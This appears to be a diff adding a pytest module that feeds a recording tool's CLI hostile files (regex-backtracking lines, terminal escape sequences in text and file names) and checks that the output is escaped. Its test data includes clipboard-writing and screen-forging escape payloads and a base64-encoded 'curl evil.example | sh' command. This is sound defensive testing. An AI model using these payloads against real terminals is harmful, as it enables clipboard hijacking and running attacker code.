@@ -1,0 +1,177 @@
+"""Hostile recording files, second round (issue 22, "Nothing hangs, and bad files get named errors").
+
+Each file here is written as an attacker would write it, by hand, and dropped into a recordings
+directory: one very long line built to make the leak scan backtrack, escape sequences in the
+recorded text and in the file's own name, a body stored with a ``content-encoding`` (a
+decompression bomb among them), and SDK objects whose data has the wrong shape. Each gives a
+named error, an error row, or escaped text, and nothing hangs (the timeouts are hang guards, set
+far above what the fixed code takes and far below what it took before).
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import json
+import zlib
+from pathlib import Path
+from typing import Any
+
+import openai
+import orjson
+import pytest
+
+import notebook_recorder as nr
+from notebook_recorder import RecordingFormatError
+from notebook_recorder._keys import InferenceRequest
+from notebook_recorder._verify import verify
+from notebook_recorder.analysis._loader import clear_cache
+from notebook_recorder.cli import main
+
+HI = [{"role": "user", "content": "Hi"}]
+
+
+@pytest.fixture(autouse=True)
+def _cold_analysis_cache() -> None:
+    clear_cache()
+
+
+def chat_record(content: Any = "Hello!", *, body: Any = None, messages: list[dict[str, Any]] | None = None) -> dict[str, Any]:
+    """A recording of ``chat.completions.create(model="gpt-4o", messages=HI)``, written by hand."""
+    if body is None:
+        body = {
+            "__type__": "openai.types.chat.chat_completion.ChatCompletion",
+            "__data__": {
+                "id": "chatcmpl-1",
+                "object": "chat.completion",
+                "created": 1700000000,
+                "model": "gpt-4o",
+                "choices": [
+                    {
+                        "index": 0,
+                        "finish_reason": "stop",
+                        "message": {"role": "assistant", "content": content},
+                    }
+                ],
+            },
+        }
+    return {
+        "test_id": None,
+        "request": {
+            "method": "POST",
+            "url": "https://api.openai.com/v1/chat/completions",
+            "headers": {},
+            "body": {"model": "gpt-4o", "messages": messages or HI},
+            "endpoint": "/v1/chat/completions",
+            "model": "gpt-4o",
+        },
+        "response": {"body": body, "is_streaming": False},
+        "id_normalization_mapping": {},
+    }
+
+
+def chat_key(messages: list[dict[str, Any]] | None = None) -> str:
+    request = InferenceRequest(
+        method="POST",
+        url="https://api.openai.com/v1/chat/completions",
+        endpoint="/v1/chat/completions",
+        body={"model": "gpt-4o", "messages": messages or HI},
+    )
+    return request.key(None)
+
+
+def write(path: Path, record: dict[str, Any]) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(orjson.dumps(record, option=orjson.OPT_INDENT_2))
+    return path
+
+
+def run_main(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
+    code = main([str(a) for a in args])
+    captured = capsys.readouterr()
+    return code, captured.out, captured.err
+
+
+def replay_client() -> openai.OpenAI:
+    return openai.OpenAI(base_url="http://127.0.0.1:9/v1", api_key="sk-test-not-used", max_retries=0)
+
+
+# ---------------------------------------------------------------------------------------------
+# verify runs in linear time
+# ---------------------------------------------------------------------------------------------
+
+#: Lines built to make a backtracking scan start again at every character: a URL scheme that
+#: never reaches ``://``, a user that never reaches ``@``, JWT-like segments joined by dashes.
+HOSTILE_LINES = {
+    "scheme": "a-" * 120_000,
+    "user-info": "a://" + "b:" * 120_000,
+    "jwt": "eyJa-" * 48_000,
+    "bearer": "Bearer" + " " * 240_000,
+    "schemes": "x://a:" * 40_000,
+}
+
+
+@pytest.mark.timeout(30)
+@pytest.mark.parametrize("case", sorted(HOSTILE_LINES))
+def test_verify_scans_a_240_kb_line_in_linear_time(case: str, tmp_path: Path) -> None:
+    """On main, the ``scheme`` and ``user-info`` lines took minutes; now each is a fraction of a second."""
+    write(tmp_path / f"{chat_key()}.json", chat_record(HOSTILE_LINES[case]))
+    report = verify(tmp_path)
+    assert report.files == 1
+    assert not report.problems["unreadable files"]
+
+
+# ---------------------------------------------------------------------------------------------
+# ls, show and verify escape control characters
+# ---------------------------------------------------------------------------------------------
+
+CLEAR_SCREEN = "\x1b[2J\x1b[H"
+SET_TITLE = "\x1b]0;pwned\x07"
+CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
+FORGED_OK = "\r\nOK: 1 file, no problems\n"
+
+
+def _raw_controls(text: str) -> list[str]:
+    """The control characters in ``text`` other than newline (and tab)."""
+    return [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0]
+
+
+def test_ls_show_and_verify_escape_control_characters(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    rec = tmp_path / "rec"
+    hostile_text = f"{CLEAR_SCREEN}{SET_TITLE}{CLIPBOARD}{FORGED_OK}"
+    # the text of a recording, and its messages
+    content_file = write(rec / f"{chat_key()}.json", chat_record(hostile_text))
+    # a file name: its own key is not its name, so verify names it; a second one is unreadable
+    other = [{"role": "user", "content": "Bye"}]
+    named = write(rec / f"x{SET_TITLE}{FORGED_OK}.json", chat_record("fine", messages=other))
+    broken = rec / f"b{CLIPBOARD}\nOK: 2 files, no problems\n.json"
+    broken.write_bytes(b"{not json")
+
+    code, out, err = run_main(capsys, "verify", rec)
+    assert code == 1
+    assert not _raw_controls(out + err), (out, err)
+    lines = (out + err).splitlines()
+    assert not [line for line in lines if line.startswith("OK")], lines
+    assert "\\x1b]0;pwned\\x07" in out and "\\x1b]52;c;" in out and "\\r\\nOK: 1 file" in out
+
+    code, out, err = run_main(capsys, "ls", rec, "--full")
+    assert code == 0, err
+    assert not _raw_controls(out + err), out
+    assert not [line for line in out.splitlines() if line.startswith("OK")]
+    assert len(out.rstrip("\n").splitlines()) == 1 + 3 + 2  # header, one line per file, blank, summary
+
+    code, out, err = run_main(capsys, "show", content_file)
+    assert code == 0, err
+    assert not _raw_controls(out + err), out
+    assert "\\x1b[2J" in out and "\\x1b]52;c;" in out
+    assert not [line for line in out.splitlines() if line.startswith("OK")]
+
+    code, out, err = run_main(capsys, "show", named)
+    assert code == 0, err
+    assert not _raw_controls(out + err), out
+    assert not [line for line in out.splitlines() if line.startswith("OK")]
+
+    code, out, err = run_main(capsys, "show", broken)
+    assert code == 1
+    assert not _raw_controls(out + err), err
+    assert not [line for line in err.splitlines() if line.startswith("OK")]
